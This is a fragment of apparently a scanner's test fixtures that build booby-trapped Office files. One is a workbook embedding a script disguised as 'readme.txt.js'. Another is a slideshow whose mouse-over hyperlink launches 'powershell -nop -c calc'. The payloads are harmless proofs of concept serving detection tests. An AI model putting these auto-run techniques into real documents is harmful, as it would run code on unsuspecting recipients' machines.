        'xl/embeddings/oleObject1.bin': embedded('readme.txt.js', Buffer.from('WScript.Echo(1)')),
      }),
    ],
    [
      'mouse.ppsx',
      pptx({
        'ppt/slides/slide1.xml': xml(
          '<p:sld xmlns:p="x" xmlns:a="y" xmlns:r="z"><a:hlinkMouseOver r:id="rId2" action="ppaction://program"/></p:sld>',
        ),
        'ppt/slides/_rels/slide1.xml.rels': relations(
          ['slideLayout', 'a.xml'],
          ['hyperlink', word('power', 'shell%20-nop%20-c%20calc'), true],
        ),
      }),
    ],
  ]),
]
